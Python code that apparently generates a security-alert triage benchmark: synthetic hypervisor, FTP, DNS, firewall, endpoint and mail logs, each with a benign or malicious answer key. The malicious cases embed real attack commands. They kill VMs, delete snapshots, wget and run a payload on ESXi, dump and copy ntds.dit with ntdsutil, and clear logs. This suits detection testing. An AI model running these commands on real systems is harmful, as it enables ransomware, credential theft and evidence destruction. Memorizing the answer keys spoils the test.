# ruff: noqa: E501
"""Machines at work that alarm, and hostile twins: hypervisors, published sites, block lists, inventories, endpoints, mail."""

from datetime import datetime, timedelta
from typing import Any

from casebook import Case, Log, iso
from upkeep import old_syslog

HOSTS = ("esx1", "esx2", "esx3", "esx4")


def esxi(log: Log, when: datetime, host: str, program: str, message: str, *steps: str) -> None:
    """A line that a hypervisor sends by syslog."""
    log.add(when, f"{iso(when, 3)} {host}.lind.example {program}: {message}", *steps)


def hostd(log: Log, when: datetime, host: str, number: int, message: str, *steps: str) -> None:
    """An event of the hypervisor's management service."""
    esxi(log, when, host, "Hostd", f"info hostd[2099571] [Originator@6876 sub=Vimsvc.ha-eventmgr opID=6f{number:04x}] Event {number} : {message}", *steps)  # fmt: skip


def hypervisor_days(case: Case) -> Log:
    """Four hosts over four days: the monitoring logs in each hour, the console service looks around."""
    log = case.log("esxi-syslog.log")
    for hour in range(98):
        host = HOSTS[hour % 4]
        when = case.after(hours=hour, minutes=11)
        hostd(log, when, host, 300 + hour, "User monitor@10.7.0.8 logged in as check_esxi/1.4")
        hostd(log, when + timedelta(seconds=4), host, 301 + hour, "User monitor@10.7.0.8 logged out (login time: " + when.strftime("%A, %d %B, %Y %I:%M:%S %p") + ", number of API invocations: 7, user agent: check_esxi/1.4)")  # fmt: skip
    return log


def maintenance(log: Log, start: datetime, host: str, *steps: str) -> None:
    """One host's update: shell by SSH, machines away, packages, restart, shell closed."""
    told = (
        (0, "Hostd", "User lind\\tor.adm@10.7.0.5 logged in as Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
        (20, "Hostd", "SSH access has been enabled."),
        (20, "vobd", "[UserLevelCorrelator] 81207us: [vob.user.ssh.enabled] SSH access has been enabled."),
        (41, "sshd[2101180]", "Accepted publickey for root from 10.7.0.5 port 50211 ssh2: RSA SHA256:q8nTzlYv0aKc4u"),
        (41, "Hostd", "SSH session was opened for 'root@10.7.0.5'."),
        (60, "shell[2101190]", "[root]: esxcli system maintenanceMode set --enable true"),
        (190, "shell[2101190]", "[root]: esxcli software vib update -d /vmfs/volumes/nfs-iso/ESXi80U3-depot.zip"),
        (420, "shell[2101190]", "[root]: esxcli system shutdown reboot -r update"),
        (1100, "vmkernel", "cpu0:2097152)Starting with VMkernel build 24022510"),
        (1180, "shell[2098101]", "[root]: esxcli system maintenanceMode set --enable false"),
        (1200, "Hostd", "SSH access has been disabled."),
    )
    for seconds, program, message in told:
        when = start + timedelta(seconds=seconds)
        if program == "Hostd":
            hostd(log, when, host, 700 + seconds, message, *steps)
        else:
            esxi(log, when, host, program, message, *steps)


def hosts_patched() -> Case:
    """Night after night one hypervisor more is updated by the same administrator in the same way."""
    case = Case("b67_esxi_hosts_patched_at_night", "2025-09-01 00:00:00")
    log = hypervisor_days(case)
    for night, host in enumerate(HOSTS):
        maintenance(log, case.start + timedelta(days=night, hours=1, minutes=4 + night), host, "alerted" if night == 3 else "before")  # fmt: skip
    case.alert = {"title": "SSH enabled on a hypervisor, packages changed, host restarted", "severity": "high", "time": iso(case.start + timedelta(days=3, hours=1, minutes=8)), "host": "esx4.lind.example", "src_ip": "10.7.0.5"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "tor.adm updates the fourth hypervisor from the management machine at one at night, step by step as he did with the three others in the nights before, and closes SSH again.",
        steps={"alerted": "this night's update", "before": "the same on three hosts before"},
        not_iocs=("10.7.0.5", "lind\\tor.adm", "root"),
    )


def hosts_encrypted() -> Case:
    """Updates as before, and by day somebody from a desk that never came kills machines and runs a fetched program over their disks."""
    case = Case("m67_esxi_machines_killed_and_encrypted", "2025-09-01 00:00:00")
    log = hypervisor_days(case)
    for night, host in enumerate(HOSTS[:2]):
        maintenance(log, case.start + timedelta(days=night, hours=1, minutes=4 + night), host)
    desk, server = "10.7.14.66", case.public()
    start = case.start + timedelta(days=3, hours=4, minutes=30)
    told = [
        (0, "in", "sshd[2107001]", f"Failed password for root from {desk} port 51822 ssh2"),
        (9, "in", "sshd[2107001]", f"Accepted password for root from {desk} port 51822 ssh2"),
        (9, "in", "Hostd", f"SSH session was opened for 'root@{desk}'."),
        (30, "stopped", "shell[2107010]", "[root]: esxcli vm process list"),
        (58, "stopped", "shell[2107010]", "[root]: esxcli vm process kill --type=force --world-id=2100415"),
        (63, "stopped", "shell[2107010]", "[root]: esxcli vm process kill --type=force --world-id=2100502"),
        (80, "stopped", "shell[2107010]", "[root]: vim-cmd vmsvc/snapshot.removeall 12"),
        (99, "run", "shell[2107010]", f"[root]: wget http://{server}/e -O /tmp/e"),
        (110, "run", "shell[2107010]", "[root]: chmod +x /tmp/e"),
        (118, "run", "shell[2107010]", "[root]: nohup /tmp/e /vmfs/volumes/ds1 &"),
        (420, "run", "shell[2107010]", "[root]: cp /tmp/README.txt /etc/motd"),
        (431, "hidden", "shell[2107010]", "[root]: rm -f /var/log/shell.log /var/log/auth.log"),
    ]
    for seconds, step, program, message in told:
        when = start + timedelta(seconds=seconds)
        if program == "Hostd":
            hostd(log, when, "esx3", 900 + seconds, message, step)
        else:
            esxi(log, when, "esx3", program, message, step)
    case.alert = {"title": "Several virtual machines went off on one host", "severity": "critical", "time": iso(start + timedelta(minutes=1)), "host": "esx3.lind.example"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "root is reached with a password from a desk that never came; running machines are killed, snapshots removed, a program is fetched and run over the store, and logs are removed.",
        steps={"in": "log-in from a desk", "stopped": "machines killed", "run": "program fetched and run", "hidden": "logs removed"},
        techniques="T1486",
        more_techniques="T1489 T1490 T1105 T1070 T1070.002 T1070.004 T1021.004 T1078 T1078.003 T1110 T1110.001 T1059 T1059.004 T1057 T1059.012 T1222 T1222.002 T1491 T1491.001 T1485 T1673 T1529 T1071.001",
        iocs=(server,),
        more_iocs=(desk, f"http://{server}/e", "/tmp/e"),
        not_iocs=("10.7.0.5", "10.7.0.8"),
    )  # fmt: skip


def ftp(log: Log, when: datetime, address: str, user: str, command: str, code: int, size: str, *steps: str) -> None:
    """A command in ProFTPD's extended log."""
    log.add(when, f'{address} UNKNOWN {user} [{when:%d/%b/%Y:%H:%M:%S} +0000] "{command}" {code} {size}', *steps)


def site_published() -> Case:
    """An agency mirrors a site every Tuesday; this time a new version replaces nearly all files."""
    case = Case("b68_proftpd_agency_publishes_site", "2025-06-02 00:00:00")
    log = case.log("commands.log")
    agency = case.public()
    for day in range(22):
        when = case.after(days=day, hours=5)
        for command, code, size in (("USER scanner", 331, "-"), ("PASS (hidden)", 230, "-"), (f"STOR scan-{case.start + timedelta(days=day):%Y%m%d}.pdf", 226, "88112"), ("QUIT", 221, "-")):  # fmt: skip
            ftp(log, when, "10.8.0.30", "-" if code == 331 else "scanner", command, code, size)
    for week in range(4):
        start = case.start + timedelta(days=1 + 7 * week, hours=12, minutes=case.dice.randrange(40))
        step = "alerted" if week == 3 else "before"
        count = 45 if week == 3 else 9 + week
        ftp(log, start, agency, "-", "USER webpub", 331, "-", step)
        ftp(log, start, agency, "webpub", "PASS (hidden)", 230, "-", step)
        for turn in range(count):
            when = start + timedelta(seconds=3 + turn)
            ftp(log, when, agency, "webpub", f"DELE htdocs/css/page{turn:02}.css", 250, str(900 + turn), step)
        for turn in range(count + 4):
            when = start + timedelta(seconds=5 + count + turn)
            ftp(log, when, agency, "webpub", f"STOR htdocs/css/page{turn:02}.css", 226, str(1300 + turn), step)
        ftp(log, start + timedelta(seconds=20 + 2 * count), agency, "webpub", "QUIT", 221, "-", step)
    case.alert = {"title": "Mass deletion of files by one FTP account", "severity": "high", "time": iso(case.start + timedelta(days=22, hours=12, minutes=20)), "user": "webpub", "src_ip": agency, "count": 45}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The agency mirrors the site as on the three Tuesdays before: from its usual address it removes style sheets and stores each of them again within a minute, only more of them.",
        steps={"alerted": "this week's mirror", "before": "the same in the weeks before"},
        not_iocs=("webpub", agency),
    )


def block_lists() -> Case:
    """The mail server asks a block list of every address that connects: many strange names of one zone."""
    case = Case("b69_bind9_mail_server_asks_block_list", "2025-10-06 06:00:00")
    log, mail = case.log("queries.log"), case.log("mail.log")

    def query(when: datetime, client: str, name: str, kind: str, *steps: str) -> None:
        log.add(when, f"{when:%d-%b-%Y %H:%M:%S}.{when.microsecond // 1000:03d} queries: info: client @0x7fac5f{case.hex(6)} {client}#{case.dice.randrange(30000, 60000)} ({name}): query: {name} IN {kind} +E(0)K (10.6.0.2)", *steps)  # fmt: skip

    for _ in range(120):
        query(case.sometime(hours=52), f"10.6.1.{case.dice.randrange(10, 40)}", case.dice.choice(("www.example.com", "intranet.lind.example", "mail.lind.example", "updates.example.net", "time.example.org")), "A")  # fmt: skip
    for hour in range(52):
        for _ in range(2):
            when = case.after(hours=hour, minutes=case.dice.randrange(60))
            connected(case, mail, query, when, "before")
    start = case.start + timedelta(hours=49, minutes=3)
    for turn in range(90):
        connected(case, mail, query, start + timedelta(seconds=5 * turn), "alerted")
    case.alert = {"title": "Possible DNS tunnel: 90 unique names of one domain from one client", "severity": "high", "time": iso(start + timedelta(minutes=5)), "src_ip": "10.6.0.25", "domain": "bl.dnsbl.example"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The mail server asks a block list for each address that connects to it, as it does around the clock; in a wave of unwanted mail there are more. Every name is the address that the mail log shows a second before, backwards.",
        steps={"alerted": "questions and the connections they belong to", "before": "the same in the two days before"},
        not_iocs=("10.6.0.25", "bl.dnsbl.example", "dnsbl.example"),
    )  # fmt: skip


def connected(case: Case, mail: Log, query: Any, when: datetime, step: str) -> None:
    """Somebody connects to the mail server, which asks the block list and refuses or not."""
    sender = case.public()
    mail.add(when, old_syslog(when, "mx1", "postfix/postscreen[2214]", f"CONNECT from [{sender}]:{case.dice.randrange(20000, 60000)} to [10.6.0.25]:25"), step)  # fmt: skip
    query(when + timedelta(milliseconds=60), "10.6.0.25", ".".join(reversed(sender.split("."))) + ".bl.dnsbl.example", "A", step)  # fmt: skip
    then = when + timedelta(seconds=4)
    said = f"DISCONNECT [{sender}]:25" if case.dice.random() < 0.3 else f"DNSBL rank 3 for [{sender}]:{case.dice.randrange(20000, 60000)}"  # fmt: skip
    mail.add(then, old_syslog(then, "mx1", "postfix/postscreen[2214]", said), step)


def paloalto(
    case: Case, log: Log, when: datetime, source: str, target: str, port: int, app: str, action: str, *steps: str
) -> None:
    """A traffic line of a PAN-OS firewall."""
    stamp = when.strftime("%Y/%m/%d %H:%M:%S")
    end = "tcp-fin" if action == "allow" else "policy-deny"
    rule = "inventory" if source == "10.2.0.40" else "clients-out"
    log.add(when, f"{when.strftime('%b %e %H:%M:%S')} fw1 1,{stamp},012801012345,TRAFFIC,{'end' if action == 'allow' else 'drop'},2561,{stamp},{source},{target},0.0.0.0,0.0.0.0,{rule},,,{app},vsys1,servers,clients,ethernet1/2,ethernet1/3,to-syslog,{stamp},{case.dice.randrange(10000, 90000)},1,{case.dice.randrange(40000, 60000)},{port},0,0,0x19,tcp,{action},{1240 if action == 'allow' else 74},640,600,12,{stamp},2,any,,{case.dice.randrange(10**9)},0x0,10.0.0.0-10.255.255.255,10.0.0.0-10.255.255.255,,6,6,{end},0,0,0,0,,fw1,from-policy", *steps)  # fmt: skip


def inventory() -> Case:
    """Each Wednesday night the inventory server asks every client on its administrative ports."""
    case = Case("b70_paloalto_weekly_inventory", "2025-07-01 00:00:00")
    log = case.log("pan-traffic.log")
    for _ in range(160):
        paloalto(case, log, case.sometime(days=22), f"10.2.3.{case.dice.randrange(10, 34)}", case.public(), 443, "ssl", "allow")  # fmt: skip
    for week in range(4):
        start = case.start + timedelta(days=1 + 7 * week, hours=2)
        for turn in range(24):
            for offset, (port, app) in enumerate(((135, "msrpc"), (445, "ms-ds-smb"), (22, "incomplete"), (161, "not-applicable"))):  # fmt: skip
                action = "deny" if port in (22, 161) else "allow"
                paloalto(case, log, start + timedelta(seconds=4 * turn + offset), "10.2.0.40", f"10.2.3.{10 + turn}", port, app, action, "alerted" if week == 3 else "before")  # fmt: skip
    case.alert = {"title": "Host sweep and port scan from a server", "severity": "high", "time": iso(case.start + timedelta(days=22, hours=2, minutes=1)), "src_ip": "10.2.0.40", "targets": 24}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The inventory server, under the firewall's own rule of that name, asks the same 24 clients on the same four ports on Wednesday at two, as in the three weeks before.",
        steps={"alerted": "this week's inventory", "before": "the same in the weeks before"},
        not_iocs=("10.2.0.40",),
    )


ORDINARY = (
    ("chrome.exe", "explorer.exe", r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer'),
    ("OUTLOOK.EXE", "explorer.exe", r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"'),
    ("svchost.exe", "services.exe", r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule"),
    ("taskhostw.exe", "svchost.exe", "taskhostw.exe SYSTEM"),
    ("powershell.exe", "explorer.exe", "powershell.exe Get-Service"),
    ("MsMpEng.exe", "services.exe", r'"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe"'),
    ("conhost.exe", "cmd.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    ("gpupdate.exe", "svchost.exe", "gpupdate.exe /target:computer"),
    ("robocopy.exe", "cmd.exe", r"robocopy D:\Shares \\NAS2\mirror /MIR /R:1 /W:1 /LOG:C:\Logs\mirror.log"),
    ("wbadmin.exe", "taskeng.exe", "wbadmin start systemstatebackup -backupTarget:E: -quiet"),
)


def falcon(
    case: Case, log: Log, when: datetime, computer: str, user: str, image: str, parent: str, line: str, *steps: str
) -> None:
    """A process in a Falcon sensor's replicated data."""
    log.add(when, {"event_simpleName": "ProcessRollup2", "name": "ProcessRollup2V19", "timestamp": str(int(when.timestamp() * 1000)), "ContextTimeStamp": f"{when.timestamp():.3f}", "aid": f"{sum(map(ord, computer)):032x}", "ComputerName": computer, "UserName": user, "ImageFileName": rf"\Device\HarddiskVolume3\Windows\System32\{image}", "FileName": image, "ParentBaseFileName": parent, "CommandLine": line, "TargetProcessId": str(case.dice.randrange(10**11, 10**12)), "ParentProcessId": str(case.dice.randrange(10**11, 10**12)), "SHA256HashData": case.hex(64), "event_platform": "Win", "aip": "33.12.0.9", "LocalAddressIP4": "10.8.0.5"}, *steps)  # fmt: skip


def logon(log: Log, when: datetime, computer: str, user: str, kind: int, address: str, *steps: str) -> None:
    """A log-on in a Falcon sensor's replicated data."""
    log.add(when, {"event_simpleName": "UserLogon", "name": "UserLogonV8", "timestamp": str(int(when.timestamp() * 1000)), "ContextTimeStamp": f"{when.timestamp():.3f}", "aid": f"{sum(map(ord, computer)):032x}", "ComputerName": computer, "UserName": user, "LogonDomain": "LIND", "LogonType": str(kind), "RemoteAddressIP4": address, "UserIsAdmin": "1", "event_platform": "Win", "aip": "33.12.0.9", "LocalAddressIP4": "10.8.0.5"}, *steps)  # fmt: skip


def directory_copied() -> Case:
    """Among a thousand ordinary processes a help desk account copies the directory's database with what Windows brings along."""
    case = Case("m68_falcon_directory_copied", "2025-05-19 00:00:00")
    log = case.log("fdr-events.jsonl")
    for _ in range(1000):
        image, parent, line = case.dice.choice(ORDINARY)
        computer = case.dice.choice(("SRV-DC1", "SRV-FS2", "NB-11", "NB-12", "NB-14", "NB-17"))
        falcon(case, log, case.sometime(hours=40), computer, case.dice.choice(("SYSTEM", "d.holm", "e.ruud", "a.vik")), image, parent, line)  # fmt: skip
    for _ in range(60):
        logon(log, case.sometime(hours=36), case.dice.choice(("NB-11", "NB-12", "NB-14", "NB-17")), case.dice.choice(("d.holm", "e.ruud", "a.vik")), 2, "0.0.0.0")  # fmt: skip
        logon(log, case.sometime(hours=36), "SRV-FS2", case.dice.choice(("d.holm", "e.ruud", "a.vik")), 3, f"10.8.4.{case.dice.choice((11, 12, 14))}")  # fmt: skip
    start = case.start + timedelta(hours=37, minutes=20)
    logon(log, start, "SRV-DC1", "d.holm", 10, "10.8.4.77", "in")
    told = (
        (40, "look", "whoami.exe", "cmd.exe", "whoami /groups"),
        (55, "look", "nltest.exe", "cmd.exe", "nltest /dclist:lind.example"),
        (70, "look", "net.exe", "cmd.exe", 'net group "Domain Admins" /domain'),
        (160, "copy", "ntdsutil.exe", "cmd.exe", r'ntdsutil "ac i ntds" "ifm" "create full C:\Windows\Temp\i" q q'),
        (300, "copy", "makecab.exe", "cmd.exe", r"makecab C:\Windows\Temp\i\ntds.dit C:\Windows\Temp\i.cab"),
        (360, "copy", "cmd.exe", "cmd.exe", r"cmd /c copy C:\Windows\Temp\i.cab \\10.8.4.77\c$\Users\Public\i.cab"),
        (420, "gone", "wevtutil.exe", "cmd.exe", "wevtutil cl Security"),
    )
    for seconds, step, image, parent, line in told:
        falcon(case, log, start + timedelta(seconds=seconds), "SRV-DC1", "d.holm", image, parent, line, step)
    case.alert = {"title": "Remote interactive logon to a domain controller", "severity": "medium", "time": iso(start), "ComputerName": "SRV-DC1", "UserName": "d.holm"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "d.holm's account comes to the domain controller from a machine it never came from, copies the directory's database, packs it, carries it to that machine and clears the security log.",
        steps={"in": "log-on from 10.8.4.77", "copy": "database copied and carried off", "gone": "log cleared"},
        optional={"look": "looking around"},
        techniques="T1003.003",
        more_techniques="T1003 T1070.001 T1021.001 T1021.002 T1078 T1078.002 T1560 T1560.001 T1033 T1069.002 T1018 T1482 T1087.002 T1059.003 T1570 T1074.001 T1069 T1016 T1070 T1074 T1087 T1105 T1560.003",
        iocs=("10.8.4.77",),
        more_iocs=("d.holm",),
        not_iocs=("e.ruud", "a.vik"),
    )


def exim_message(
    case: Case, log: Log, when: datetime, sender: str, host: str, auth: str, recipient: str, *steps: str
) -> None:
    """A message in Exim's main log: received, delivered, completed."""
    number = f"1u{case.hex(4)}-{case.hex(6)}-{case.hex(2)}"
    stamp = "%Y-%m-%d %H:%M:%S"
    log.add(when, f"{when:{stamp}} {number} <= {sender} H={host} P={'esmtpsa' if auth else 'esmtps'} X=TLS1.3:ECDHE_SECP256R1__RSA_PSS_RSAE_SHA256__AES_256_GCM:256 CV=no{f' A=plain_login:{auth}' if auth else ''} S={case.dice.randrange(1500, 60000)} id={case.hex(12)}@{sender.rsplit('@', 1)[-1]}", *steps)  # fmt: skip
    then = when + timedelta(seconds=1)
    relay = f"R=dnslookup T=remote_smtp H=mx.{recipient.rsplit('@', 1)[-1]} [{case.public()}]" if auth else "R=local_user T=maildir"  # fmt: skip
    log.add(then, f'{then:{stamp}} {number} => {recipient} {relay} C="250 OK"', *steps)
    log.add(then, f"{then:{stamp}} {number} Completed", *steps)


def account_sends_spam() -> Case:
    """Within three days of ordinary mail a password is found slowly from outside, and the account sends to a hundred strangers."""
    case = Case("m69_exim_guessed_account_sends_spam", "2025-11-10 00:00:00")
    log = case.log("mainlog")
    people = ("anja", "bente", "carsten", "dorte", "ejner", "flemming", "grete")
    for _ in range(260):
        when = case.after(days=case.dice.randrange(3), hours=7, minutes=case.dice.randrange(560))
        who, desk = case.dice.choice(tuple(zip(people, range(20, 27), strict=True)))
        if case.dice.random() < 0.5:
            exim_message(case, log, when, f"{who}@lind.example", f"(pc{desk}) [10.5.1.{desk}]", who, f"k{case.dice.randrange(12)}@kunde.example")  # fmt: skip
        else:
            exim_message(case, log, when, f"k{case.dice.randrange(12)}@kunde.example", f"mx.kunde.example [33.8.8.{case.dice.randrange(2, 9)}]", "", f"{who}@lind.example")  # fmt: skip
    when = case.start + timedelta(days=1, hours=8)
    log.add(when, f"{when:%Y-%m-%d %H:%M:%S} plain_login authenticator failed for (pc23) [10.5.1.23]: 535 Incorrect authentication data (set_id=dorte)")  # fmt: skip
    intruder = case.public()
    start = case.start + timedelta(days=2, hours=1)
    for turn in range(40):
        when = start + timedelta(seconds=140 * turn)
        who = people[turn % 7]
        log.add(when, f"{when:%Y-%m-%d %H:%M:%S} plain_login authenticator failed for (User) [{intruder}]: 535 Incorrect authentication data (set_id={who})", "guessed")  # fmt: skip
    wave = case.start + timedelta(days=2, hours=12, minutes=4)
    for turn in range(90):
        exim_message(case, log, wave + timedelta(seconds=6 * turn), "ejner@lind.example", f"(User) [{intruder}]", "ejner", f"{case.hex(6)}@{case.dice.choice(('example.net', 'example.org', 'post.example', 'mailbox.example'))}", "sent")  # fmt: skip
    case.alert = {"title": "More than 50 outbound messages of one sender in ten minutes", "severity": "medium", "time": iso(wave + timedelta(minutes=6)), "sender": "ejner@lind.example", "host": "mail"}  # fmt: skip
    return case.judge(
        "malicious",
        "medium high critical",
        "An address outside tries seven accounts over an hour and a half, and at noon sends ninety messages to strangers as ejner.",
        steps={"guessed": "passwords tried", "sent": "ninety messages to strangers"},
        techniques="T1110",
        more_techniques="T1110.001 T1110.003 T1110.004 T1078 T1078.003 T1114 T1566 T1566.001 T1566.002 T1586.002 T1534 T1133 T1496 T1585.002",
        iocs=(intruder,),
        more_iocs=("ejner", "ejner@lind.example"),
        not_iocs=("dorte", "10.5.1.23", "anja", "10.5.1.24"),
    )


CASES = (hosts_patched, hosts_encrypted, site_published, block_lists, inventory, directory_copied, account_sends_spam)
